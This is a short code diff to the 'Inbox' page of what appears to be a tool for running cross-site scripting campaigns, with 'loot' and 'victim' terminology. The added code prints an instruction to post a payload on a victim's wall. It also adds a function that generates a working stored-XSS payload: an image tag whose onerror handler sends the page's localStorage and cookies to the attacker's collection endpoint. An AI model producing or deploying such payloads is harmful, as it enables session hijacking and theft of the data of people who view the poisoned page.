@@ -34,7 +34,8 @@ pub(super) async fn inbox(
         "Inbox",
         view! {
             <h1>"Inbox"</h1>
-            <p>"Payloads of this campaign send what they find to " <code>{collect}</code> "."</p>
+            <p>"Post this on the victim’s wall. Whatever a script can read there comes here."</p>
+            <pre>{payload(&collect)}</pre>
             <p>{empty}</p>
             {loot.collect_view()}
             <h2>"Tried out"</h2>
@@ -43,6 +44,14 @@ pub(super) async fn inbox(
         },
     )
     .into_response()
+}
+
+/// An image that fails to load, and says what to do then: a `<script>` that is put into a page later would not run.
+fn payload(collect: &str) -> String {
+    format!(
+        "<img src=\"/no-such-image\" alt=\"\" onerror=\"fetch('{collect}',{{method:'POST',mode:'no-cors',\
+         body:JSON.stringify({{localStorage,cookie:document.cookie}})}})\">"
+    )
 }
 
 /// One piece of loot, and a console to try it with.
